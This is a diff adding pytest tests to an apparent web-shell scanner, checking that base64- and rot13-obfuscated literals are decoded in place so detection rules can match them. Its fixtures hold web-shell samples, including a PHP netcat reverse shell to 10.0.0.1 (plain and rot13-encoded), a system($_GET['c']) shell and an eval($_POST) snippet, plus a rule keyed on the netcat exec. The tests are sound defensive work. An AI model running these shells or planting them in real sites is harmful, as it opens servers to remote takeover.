@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import os
+import re
 import urllib.parse
 import zlib
 from collections.abc import Callable
@@ -1257,3 +1258,59 @@ def test_a_payload_whose_code_carries_raw_bytes_is_scanned(
     page = b"<?php $f = pick(); eval($f() . '" + literal + b"');"
     assert scan(ruleset, tmp_path, "p.php", page) == {"T_System_Get": "base64 > inflate"}
     assert not payload.texty(raw) and not payload.texty(os.urandom(4096))
+
+
+@pytest.mark.parametrize(
+    ("page", "inlined"),
+    [
+        (b"<? echo exec(str_rot13('ap -ai 10.0.0.1 1234 -r /ova/onfu')); ?>",
+         b"<? echo exec('nc -nv 10.0.0.1 1234 -e /bin/bash'); ?>"),
+        (b"<?php $f = base64_decode('c3lzdGVt', true); $f($_GET['c']);",
+         b"<?php $f = 'system'; $f($_GET['c']);"),
+        (b'<% Class c = Class.forName(new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="))); %>',
+         b'<% Class c = Class.forName("java.lang.Runtime"); %>'),
+        (b'<% var p = Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ==")); %>',
+         b'<% var p = "cmd.exe"; %>'),
+        # a quote in what is decoded is escaped for the literal it goes back into
+        (b"<?php $q = base64_decode('aXQncw==');", b"<?php $q = 'it\\'s';"),
+    ],
+    ids=["rot13-command", "php-name", "java-class", "csharp-program", "quote"],
+)  # fmt: skip
+def test_a_short_decoded_literal_is_put_back_where_it_stood(page: bytes, inlined: bytes) -> None:
+    offsets = [
+        m.start() for m in re.finditer(rb"str_rot13|base64_decode|decode\(|FromBase64", page)
+    ]
+    assert payload.inlined(page, offsets) == inlined
+
+
+def test_what_is_not_a_short_line_of_text_stays_encoded() -> None:
+    long = base64.b64encode(b"x" * (payload.INLINE_MAX + 1))
+    binary = base64.b64encode(bytes(range(256)))
+    code = base64.b64encode(b"eval($_POST[1]);")  # code: the chain's layer, not inlined
+    for lit in (long, binary, base64.b64encode(b"a\nb"), code):
+        page = b"<?php $a = base64_decode('" + lit + b"');"
+        assert payload.inlined(page, [page.find(b"base64")]) is None
+
+
+def test_a_command_decoded_in_place_meets_the_rule_for_its_call(
+    tmp_path: Path,
+) -> None:
+    d = tmp_path / "rules"
+    d.mkdir()
+    (d / "t.yar").write_text('rule T_Rev { strings: $a = "exec(\'nc -nv" condition: $a }')
+    rs = load_rules((d, TRIGGERS), default_rules=False)
+    page = b"<? echo exec(str_rot13('ap -ai 10.0.0.1 1234 -r /ova/onfu')); ?>"
+    assert scan(rs, tmp_path, "q.php", page) == {"T_Rev": "inline"}
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.binary(max_size=400),
+    st.sampled_from([b"base64_decode('", b'str_rot13("', b"strrev(hex2bin('"]),
+)
+def test_inlining_never_raises_and_stays_bounded(data: bytes, call: bytes) -> None:
+    page = b"<?php $a = " + call + data
+    out = payload.inlined(page, [page.find(call)])
+    assert out is None or len(out) <= len(page) + payload.INLINE_COUNT * (
+        2 * payload.INLINE_MAX + 2
+    )
